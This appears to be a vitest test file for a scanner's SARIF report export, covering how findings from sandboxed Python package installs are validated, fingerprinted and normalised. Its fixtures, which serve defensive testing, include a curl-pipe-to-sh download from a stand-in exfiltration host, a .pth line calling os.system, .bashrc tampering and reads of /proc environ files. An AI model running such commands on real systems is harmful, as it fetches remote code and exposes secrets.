import { readFileSync } from 'node:fs';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { CATALOGUE, RULE_IDS, type RuleId } from '../core/rules.js';
import { emptyReport, type Report } from './schema.js';
import { FINGERPRINT_KEY, sarifFingerprint, sarifText, stableText, toSarif, type SarifLog, type SarifResult } from './sarif.js';

type JudgedFinding = Report['findings'][number];

// The official SARIF 2.1.0 schema (draft-07), vendored byte-exact: see its .source.txt. Its
// `language` pattern has a stray `]` (`^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$`) that a `u`-flag
// RegExp refuses, so patterns compile without it (unicodeRegExp: false), as validators of 2019 did.
const schema = JSON.parse(readFileSync(new URL('../../test/fixtures/sarif-schema-2.1.0.json', import.meta.url), 'utf8')) as Record<string, unknown>;
const validate = new Ajv({ strict: false, validateFormats: false, unicodeRegExp: false, allErrors: true }).compile(schema);

/** What the validator says of a log as it would be written. */
function schemaErrors(log: unknown): unknown[] {
  validate(JSON.parse(JSON.stringify(log)));
  return validate.errors ?? [];
}

const judged = (rule: RuleId, pkg: string | null, message: string, evidence: Record<string, unknown>, extra: Partial<JudgedFinding> = {}): JudgedFinding => ({
  rule,
  severity: CATALOGUE[rule].severity,
  package: pkg,
  message,
  evidence,
  phase: 'install',
  action: 'fail',
  failing: CATALOGUE[rule].severity !== 'info',
  ...extra,
});

const BUILD = '/opt/installer/bin/python /usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel';

const dns = judged('network.dns', 'evil-pkg', 'DNS query for collect.exfil.invalid', {
  name: 'collect.exfil.invalid',
  qtype: 1,
  pid: 31,
  argv: `${BUILD} /tmp/tmpk2j3ab_x`,
});
/** The same query from a later process of the same build, already folded three times by the report. */
const dnsAgain = judged('network.dns', 'evil-pkg', 'DNS query for collect.exfil.invalid', {
  name: 'collect.exfil.invalid',
  qtype: 1,
  pid: 57,
  argv: `${BUILD} /tmp/tmpzz9xq1ab`,
  count: 3,
});
const exec = judged('process.exec', 'evil-pkg', 'ran sh: /bin/sh -c curl -s http://stage2.exfil.invalid/payload.sh | sh', {
  path: '/bin/sh',
  argv: '/bin/sh -c curl -s http://stage2.exfil.invalid/payload.sh | sh',
  ok: true,
  errno: null,
  pid: 38,
});
const bashrc = judged('fs.write-outside-target', 'evil-pkg', 'modified /home/user/.bashrc outside the install target', {
  path: '/home/user/.bashrc',
  kind: 'modified',
  pid: 40,
  argv: `${BUILD} /tmp/tmpk2j3ab_x`,
});
const pth = judged('static.pth-exec', 'evil-pkg', 'evil_pkg-init.pth has lines that run at every interpreter start', {
  path: 'evil_pkg-init.pth',
  lines: ['import os; os.system("id")'],
});
const http = judged(
  'network.http',
  'six',
  'a request reached the fake service: GET http://collect.six.invalid/p',
  { method: 'GET', host: 'collect.six.invalid', path: '/p', dst: '127.1.0.2:80', pid: 44, argv: 'python3 -c …' },
  { action: 'warn', failing: false },
);
const monitorDead = judged('monitor.tampered', null, 'the monitor container had stopped before the install ended', { monitorAlive: false });
const buildRequirement = judged(
  'integrity.build-requirement',
  'setuptools',
  'served build requirement setuptools-80.9.0-py3-none-any.whl, which the lock does not pin',
  {
    project: 'setuptools',
    filename: 'setuptools-80.9.0-py3-none-any.whl',
    sha256: 'a'.repeat(64),
  },
);
const ignored = judged(
  'static.autoload-entry-point',
  'six',
  'six registers six in pytest11',
  { group: 'pytest11', name: 'six', object: 'six.plugin' },
  { action: 'ignore', failing: false, suppressed: { reason: 'our own plugin', expires: null } },
);

const LOCK_LINES: ReadonlyMap<string, number> = new Map([
  ['evil-pkg', 3],
  ['six', 7],
]);

function report(findings: JudgedFinding[]): Report {
  return { ...emptyReport({ version: '0.1.0', lockfile: 'requirements.lock', policy: 'default', image: null }), verdict: 'fail', findings };
}

const ALL = [dns, exec, dnsAgain, bashrc, pth, http, monitorDead, buildRequirement, ignored];
const log = toSarif(report(ALL), LOCK_LINES, 'requirements.lock');
const run = log.runs[0];
const resultFor = (rule: RuleId): SarifResult[] => run.results.filter((r) => r.ruleId === rule);

describe('toSarif', () => {
  it('writes a log the official SARIF 2.1.0 schema accepts', () => {
    expect(schemaErrors(log)).toEqual([]);
    expect(log.$schema).toBe('https://json.schemastore.org/sarif-2.1.0.json');
    expect(log.version).toBe('2.1.0');
    expect(log.runs).toHaveLength(1);
    expect(run.tool.driver).toMatchObject({ name: 'sandbox-install', version: '0.1.0' });
  });

  it('is schema-valid for an empty report and for hostile message text', () => {
    expect(schemaErrors(toSarif(report([]), LOCK_LINES, 'requirements.lock'))).toEqual([]);
    const hostile = judged('network.dns', 'evil-pkg', 'DNS query for \u001b[31m{0}[x](https://evil.invalid)\u202e\ud800', { name: '\u0000' });
    const sarif = toSarif(report([hostile, judged('install.failed', null, '', { exitCode: 1 })]), LOCK_LINES, 'deps/my reqs.lock');
    expect(schemaErrors(sarif)).toEqual([]);
    expect(sarif.runs[0].results.map((r) => r.message.text)).toEqual([
      'DNS query for \u001b[31m{{0}}[x\\](https://evil.invalid)\u202e\ud800',
      CATALOGUE['install.failed'].description,
    ]);
    expect(sarif.runs[0].results[0]?.locations[0].physicalLocation.artifactLocation.uri).toBe('deps/my%20reqs.lock');
  });

  it('lists the whole catalogue as rules, in catalogue order, with security-severity as a string', () => {
    expect(run.tool.driver.rules.map((r) => r.id)).toEqual(RULE_IDS);
    for (const rule of run.tool.driver.rules) {
      expect(typeof rule.properties['security-severity']).toBe('string');
      expect(rule.properties.tags).toEqual(['security', rule.id.slice(0, rule.id.indexOf('.'))]);
    }
    expect(run.tool.driver.rules.find((r) => r.id === 'network.canary-exfil')).toEqual({
      id: 'network.canary-exfil',
      name: 'NetworkCanaryExfil',
      shortDescription: { text: CATALOGUE['network.canary-exfil'].description },
      fullDescription: { text: `network.canary-exfil fires when ${CATALOGUE['network.canary-exfil'].description}. Default severity: critical.` },
      help: {
        text: CATALOGUE['network.canary-exfil'].help,
        markdown: `**network.canary-exfil** fires when ${CATALOGUE['network.canary-exfil'].description}.\n\n${CATALOGUE['network.canary-exfil'].help}`,
      },
      defaultConfiguration: { level: 'error' },
      properties: { 'security-severity': '9.5', tags: ['security', 'network'] },
    });
    const bySeverity = (id: RuleId) => run.tool.driver.rules.find((r) => r.id === id);
    expect(bySeverity('network.dns')?.properties['security-severity']).toBe('8.0');
    expect(bySeverity('static.autoload-entry-point')).toMatchObject({ defaultConfiguration: { level: 'warning' }, properties: { 'security-severity': '3.0' } });
    expect(bySeverity('lock.index-url')).toMatchObject({ defaultConfiguration: { level: 'note' }, properties: { 'security-severity': '0.0' } });
  });

  it("points each result at its package's lock line, and at line 1 when unattributed or not in the lock", () => {
    const lines = run.results.map((r) => [r.ruleId, r.properties.package, r.locations[0].physicalLocation.region.startLine]);
    expect(lines).toEqual([
      ['network.dns', 'evil-pkg', 3],
      ['process.exec', 'evil-pkg', 3],
      ['fs.write-outside-target', 'evil-pkg', 3],
      ['static.pth-exec', 'evil-pkg', 3],
      ['network.http', 'six', 7],
      ['monitor.tampered', null, 1],
      ['integrity.build-requirement', 'setuptools', 1],
    ]);
    expect(new Set(run.results.map((r) => r.locations[0].physicalLocation.artifactLocation.uri))).toEqual(new Set(['requirements.lock']));
    expect(run.results.map((r) => r.ruleIndex)).toEqual(run.results.map((r) => RULE_IDS.indexOf(r.ruleId)));
  });

  it('gives failing findings error, other findings warning, and info ones note', () => {
    expect(run.results.map((r) => [r.ruleId, r.level])).toEqual([
      ['network.dns', 'error'],
      ['process.exec', 'error'],
      ['fs.write-outside-target', 'error'],
      ['static.pth-exec', 'error'],
      ['network.http', 'warning'],
      ['monitor.tampered', 'error'],
      ['integrity.build-requirement', 'note'],
    ]);
  });

  it('collapses repeats of one behaviour into one result that counts them', () => {
    expect(resultFor('network.dns')).toEqual([
      {
        ruleId: 'network.dns',
        ruleIndex: RULE_IDS.indexOf('network.dns'),
        level: 'error',
        message: { text: 'DNS query for collect.exfil.invalid' },
        locations: [{ physicalLocation: { artifactLocation: { uri: 'requirements.lock' }, region: { startLine: 3 } } }],
        partialFingerprints: { [FINGERPRINT_KEY]: sarifFingerprint(dns) },
        properties: { package: 'evil-pkg', phase: 'install', severity: 'high', evidence: dns.evidence, occurrences: 4 },
      },
    ]);
  });

  it('keeps the most severe level and severity of what it collapses, with that finding as the message', () => {
    const warned = { ...http, severity: 'medium' as const };
    const failed = { ...http, message: 'the failing one', evidence: { ...http.evidence, pid: 99 }, action: 'fail' as const, failing: true };
    const [result, ...rest] = toSarif(report([warned, failed]), LOCK_LINES, 'requirements.lock').runs[0].results;
    expect(rest).toEqual([]);
    expect(result).toMatchObject({ level: 'error', message: { text: 'the failing one' }, properties: { severity: 'high', occurrences: 2 } });
  });

  it('leaves out findings the policy ignored', () => {
    expect(ALL).toContain(ignored);
    expect(resultFor('static.autoload-entry-point')).toEqual([]);
    expect(run.results).toHaveLength(7);
    // Still there when the policy warns instead.
    const warned = toSarif(report([{ ...ignored, action: 'warn' }]), LOCK_LINES, 'requirements.lock');
    expect(warned.runs[0].results.map((r) => [r.ruleId, r.level])).toEqual([['static.autoload-entry-point', 'warning']]);
  });

  it('is checked by a validator that rejects a broken log', () => {
    const broken = (change: (copy: SarifLog) => void) => {
      const copy = structuredClone(log);
      change(copy);
      return schemaErrors(copy);
    };
    expect(broken((copy) => Object.assign(copy, { version: '2.0' }))).toContainEqual(expect.objectContaining({ instancePath: '/version', keyword: 'enum' }));
    expect(broken((copy) => Object.assign(copy.runs[0].results[0]!.locations[0].physicalLocation.region, { startLine: 0 }))).toContainEqual(
      expect.objectContaining({ instancePath: '/runs/0/results/0/locations/0/physicalLocation/region/startLine', keyword: 'minimum' }),
    );
    expect(broken((copy) => Object.assign(copy.runs[0].results[0]!, { level: 'critical' }))).toContainEqual(
      expect.objectContaining({ instancePath: '/runs/0/results/0/level', keyword: 'enum' }),
    );
  });
});

describe('sarifFingerprint', () => {
  it('is a sha256 hex that stays when only pids, temp paths and counts differ', () => {
    expect(sarifFingerprint(dns)).toMatch(/^[0-9a-f]{64}$/);
    expect(sarifFingerprint(dnsAgain)).toBe(sarifFingerprint(dns));
    const overlayExec = (buildEnv: string, pid: number) =>
      judged('process.exec', 'evil-pkg', 'ran a program from a writable place', {
        path: `/tmp/pip-build-env-${buildEnv}/overlay/bin/sh`,
        argv: `/tmp/pip-build-env-${buildEnv}/overlay/bin/sh -c id /tmp/pip-install-${buildEnv}/evil-pkg_2c8a23b76e77438d94495cc80530245f/setup.py`,
        ok: true,
        errno: null,
        pid,
      });
    expect(sarifFingerprint(overlayExec('e4g603gw', 12))).toBe(sarifFingerprint(overlayExec('x7y_9zab', 4012)));
  });

  it('differs for another package, rule or evidence', () => {
    const base = sarifFingerprint(dns);
    expect(sarifFingerprint({ ...dns, package: 'six' })).not.toBe(base);
    expect(sarifFingerprint({ ...dns, package: null })).not.toBe(base);
    expect(sarifFingerprint({ ...dns, evidence: { ...dns.evidence, name: 'other.exfil.invalid' } })).not.toBe(base);
    expect(sarifFingerprint({ ...dns, rule: 'network.http' })).not.toBe(base);
    expect(sarifFingerprint(exec)).not.toBe(sarifFingerprint({ ...exec, evidence: { ...exec.evidence, argv: '/bin/sh -c id' } }));
  });

  it('keeps a destination port but not an ephemeral one, and names a sinkholed address by its host', () => {
    const connect = (address: string, port: number, host: string | null, pid = 20) =>
      sarifFingerprint(
        judged('network.connect', 'evil-pkg', 'connect', { address, port, host, syscall: 'connect', ok: true, errno: null, pid, argv: 'python3' }),
      );
    expect(connect('127.0.0.1', 41234, null)).toBe(connect('127.0.0.1', 45678, null, 21));
    expect(connect('127.1.0.1', 80, 'collect.exfil.invalid')).toBe(connect('127.1.0.3', 80, 'collect.exfil.invalid'));
    expect(connect('127.1.0.1', 80, 'collect.exfil.invalid')).not.toBe(connect('127.1.0.1', 443, 'collect.exfil.invalid'));
    expect(connect('10.0.0.1', 80, null)).not.toBe(connect('10.0.0.2', 80, null));
  });

  it('keeps a signal aimed at everyone apart from one aimed at a sandbox pid, whichever pid', () => {
    const kill = (target: number, pid: number) =>
      sarifFingerprint(
        judged('monitor.tampered', 'evil-pkg', 'kill', { syscall: 'kill', target, signal: 'SIGKILL', ok: false, errno: 'EPERM', pid, argv: 'python3' }),
      );
    expect(kill(17, 30)).toBe(kill(4242, 31));
    expect(kill(-1, 30)).not.toBe(kill(17, 30));
    expect(kill(1, 30)).not.toBe(kill(17, 30));
  });

  it('tells the ways the monitor fails apart', () => {
    const tampered = (evidence: Record<string, unknown>) => sarifFingerprint(judged('monitor.tampered', null, 'x', evidence));
    const dropped = tampered({ dropped: 10 });
    expect(tampered({ dropped: 99_000 })).toBe(dropped);
    expect(
      new Set([dropped, tampered({ unparsed: 1, oversized: 0, heads: ['12 …'] }), tampered({ monitorAlive: false }), tampered({ traceMissing: true })]).size,
    ).toBe(4);
  });

  it('keys a rule without its own key on every evidence field but the volatile ones', () => {
    const unexpected = (evidence: Record<string, unknown>) => sarifFingerprint(judged('export.unexpected-file', 'evil-pkg', 'x', evidence));
    const base = unexpected({ filename: 'other-1.0-py3-none-any.whl', pid: 12, size: 100, time: '2026-01-01T00:00:00Z', count: 2 });
    expect(unexpected({ filename: 'other-1.0-py3-none-any.whl', pid: 99, size: 7, time: '2026-02-02T00:00:00Z' })).toBe(base);
    expect(unexpected({ filename: 'other-2.0-py3-none-any.whl', pid: 12 })).not.toBe(base);
  });

  it('ignores the canary value a run planted', () => {
    const exfil = (seen: string) =>
      sarifFingerprint(
        judged('network.canary-exfil', 'evil-pkg', 'x', { secret: 'AWS_SECRET_ACCESS_KEY', channel: 'DNS name', encoding: 'hex', seen, pid: 3, argv: null }),
      );
    expect(exfil('41424344.x.invalid')).toBe(exfil('45464748.x.invalid'));
  });
});

describe('stableText', () => {
  it.each([
    ['/tmp/pip-install-q8_72yms/evil-pkg_2c8a23b76e77438d94495cc80530245f/setup.py', '/tmp/pip-install-*/evil-pkg_*/setup.py'],
    [
      '/tmp/pip-build-env-e4g603gw/overlay/lib/python3.11/site-packages/wheel/__pycache__/wheelfile.cpython-311.pyc.140082840000176',
      '/tmp/pip-build-env-*/overlay/lib/python3.11/site-packages/wheel/__pycache__/wheelfile.cpython-311.pyc.*',
    ],
    ['/tmp/pip-wheel-_qh3wmij/.tmp-m5nq13pu/evil_pkg-1.0-py3-none-any.whl', '/tmp/pip-wheel-*/.tmp-*/evil_pkg-1.0-py3-none-any.whl'],
    ['/tmp/pip-ephem-wheel-cache-a1b2c3d4/wheels', '/tmp/pip-ephem-wheel-cache-*/wheels'],
    [`${BUILD} /tmp/tmpk2j3ab_x`, `${BUILD} /tmp/tmp*`],
    ['python3 /var/tmp/tmpab12cd34.py', 'python3 /var/tmp/tmp*.py'],
    ['cat /proc/4242/environ /proc/1/environ /proc/self/environ', 'cat /proc/*/environ /proc/1/environ /proc/self/environ'],
    ['run 0b7c4a8e-2f1d-4c3b-9a8e-1d2c3b4a5f6e', 'run *'],
    ['argv …[+1234 chars]', 'argv …[+* chars]'],
  ])('normalises %s', (text, stable) => {
    expect(stableText(text)).toBe(stable);
  });

  it.each(['/home/user/.bashrc', '/tmp/stage2', '/tmp/tmpfile', 'evil_pkg-init.pth', '/opt/target/lib/python3.11/site-packages/x.py', 'a'.repeat(64)])(
    'keeps %s',
    (text) => {
      expect(stableText(text)).toBe(text);
    },
  );
});

describe('sarifText', () => {
  it('doubles braces and escapes the bracket that would close an embedded link', () => {
    expect(sarifText('{0} [a](1) [b] c](d) \\](e) \\\\](f)')).toBe('{{0}} [a\\](1) [b] c\\](d) \\](e) \\\\\\](f)');
  });
});
